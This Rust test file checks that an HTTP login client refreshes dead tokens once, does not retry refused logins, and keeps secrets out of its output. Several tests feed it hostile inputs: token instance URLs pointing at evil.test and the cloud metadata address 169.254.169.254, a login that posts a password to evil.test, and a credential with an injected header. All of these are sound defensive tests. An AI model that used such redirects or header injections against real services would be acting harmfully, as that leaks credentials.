//! Tokens that die, and logins that are refused.

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use async_trait::async_trait;
use overlock_core::{Error, ErrorKind, Result, Secret};
use overlock_kit::http::{Auth, LoginClient, Request, Token, Url};

use crate::server::{Server, json, reply};
use crate::world::{CANARY, Setup, simple, world_with};

#[tokio::test]
async fn a_dead_token_is_replaced_once_for_all() {
    // covers: N11
    let dead = format!("authorization: bearer {CANARY}-1");
    let server = Server::start(move |seen| {
        if seen.headers.contains(&dead) {
            reply(401, &[], r#"[{"errorCode":"INVALID_SESSION_ID"}]"#)
        } else {
            json("[]")
        }
    })
    .await;
    let world = simple(&server);
    let many = (0..10).map(|i| world.http.send(Request::post(format!("/{i}"), "{}")));
    for response in futures::future::join_all(many).await {
        assert_eq!(response.unwrap().status, 200);
    }
    assert_eq!(world.logins(), 2);
    assert!(!world.said().contains(CANARY));
}

#[tokio::test]
async fn a_second_refusal_is_final_and_never_a_third_login() {
    // covers: N12, N14
    let server = Server::start(|_| reply(401, &[], "no")).await;
    let world = simple(&server);
    for number in 0..3 {
        let error = world.http.send(Request::get("/")).await.unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Auth, "{error:?}");
        if number == 0 {
            assert!(
                error.to_string().ends_with("401 Unauthorized: no"),
                "{error}"
            );
        }
    }
    assert_eq!(world.logins(), 2);
    // Two for the first request, one for the second, none for the third: nobody is left to log in.
    assert!(server.seen().len() <= 4, "{}", server.seen().len());
}

/// Logs in at `/token` of its server.
struct Form {
    server: Url,
    repeatable: bool,
}

#[async_trait]
impl Auth for Form {
    async fn login(&self, client: &LoginClient<'_>) -> Result<Token> {
        let url = self.server.join("/token").unwrap();
        let form = [("grant_type", "x"), ("assertion", CANARY)];
        let response = client.post_form(&url, &form, self.repeatable).await?;
        if response.status != 200 {
            let text = String::from_utf8_lossy(&response.body).into_owned();
            return Err(Error::new(ErrorKind::Auth, format!("log in: {text}")).hint("check it"));
        }
        let token: std::collections::HashMap<String, String> = response.json()?;
        client.learn(&token["access_token"]);
        Ok(Token::authorization(
            Secret::new(format!("Bearer {}", token["access_token"])),
            Url::parse(&token["instance_url"]).unwrap(),
        ))
    }
}

fn form_world(server: &Server, repeatable: bool) -> crate::world::World {
    let auth = Arc::new(Form {
        server: server.url(),
        repeatable,
    });
    world_with(
        &server.url(),
        auth,
        Arc::new(AtomicU32::new(0)),
        Setup::default(),
    )
}

#[tokio::test]
async fn a_refused_login_is_not_tried_again() {
    // covers: N12, N14
    let server = Server::start(|_| reply(400, &[], r#"{"error":"invalid_grant"}"#)).await;
    let world = form_world(&server, true);
    world.cx.redactor.learn(CANARY);
    for _ in 0..3 {
        let error = world.http.send(Request::get("/")).await.unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Auth);
        assert!(error.to_string().contains("invalid_grant"));
        assert_eq!(error.hint_text(), Some("check it"));
    }
    assert_eq!(server.seen().len(), 1);
    let seen = &server.seen()[0];
    assert_eq!(seen.body, format!("grant_type=x&assertion={CANARY}"));
    assert!(!seen.headers.contains("authorization"));
}

#[tokio::test]
async fn a_login_is_repeated_only_if_that_is_safe() {
    for (repeatable, logins) in [(true, 2), (false, 1)] {
        let count = Arc::new(AtomicU32::new(0));
        let counted = Arc::clone(&count);
        let server = Server::start(move |seen| {
            if seen.target == "/token" && counted.fetch_add(1, Ordering::SeqCst) == 0 {
                return reply(503, &[], "");
            }
            let host = seen
                .headers
                .lines()
                .find_map(|line| line.strip_prefix("host: "))
                .unwrap();
            json(&format!(
                r#"{{"access_token":"{CANARY}","instance_url":"http://{host}"}}"#
            ))
        })
        .await;
        let world = form_world(&server, repeatable);
        let outcome = world.http.login().await;
        assert_eq!(outcome.is_ok(), repeatable);
        assert_eq!(count.load(Ordering::SeqCst), logins);
        assert!(!world.said().contains(CANARY));
    }
}

#[tokio::test]
async fn a_token_cannot_send_requests_elsewhere() {
    // covers: N18
    for base in [
        "https://evil.test",
        "http://127.0.0.1:1",
        "https://evil-source.test",
        "http://acme.source.test",
        "https://169.254.169.254",
    ] {
        let server = Server::start(move |_| {
            json(&format!(
                r#"{{"access_token":"{CANARY}","instance_url":"{base}"}}"#
            ))
        })
        .await;
        let world = form_world(&server, true);
        let error = world.http.send(Request::get("/")).await.unwrap_err();
        assert_eq!(world.http.calls(), 1, "{base}: only the login");
        assert!(
            matches!(error.kind(), ErrorKind::Unavailable | ErrorKind::Config),
            "{base}"
        );
        assert_eq!(
            server.seen().len(),
            1,
            "{base}: only the login may have been sent"
        );
    }
}

struct Elsewhere;

#[async_trait]
impl Auth for Elsewhere {
    async fn login(&self, client: &LoginClient<'_>) -> Result<Token> {
        let url = Url::parse("https://evil.test/token").unwrap();
        client
            .post_form(&url, &[("password", CANARY)], true)
            .await?;
        Err(Error::bug("get this far"))
    }
}

#[tokio::test]
async fn credentials_go_to_configured_hosts_only() {
    // covers: N18
    let server = Server::start(|_| json("{}")).await;
    let count = Arc::new(AtomicU32::new(0));
    let world = world_with(&server.url(), Arc::new(Elsewhere), count, Setup::default());
    let error = world.http.login().await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Config);
    assert_eq!(world.http.calls(), 0);
}

#[tokio::test]
async fn a_credential_with_a_line_break_is_refused_before_it_is_sent() {
    // covers: I23
    let server = Server::start(|_| json("[]")).await;
    let secret = Secret::new(format!("Bearer {CANARY}\r\nX-Evil: 1"));
    let auth = overlock_kit::http::StaticAuth::new(secret, server.url());
    let count = Arc::new(AtomicU32::new(0));
    let world = world_with(&server.url(), Arc::new(auth), count, Setup::default());
    let error = world.http.send(Request::get("/")).await.unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Config);
    assert!(server.seen().is_empty() && !format!("{error:?}").contains(CANARY));
}
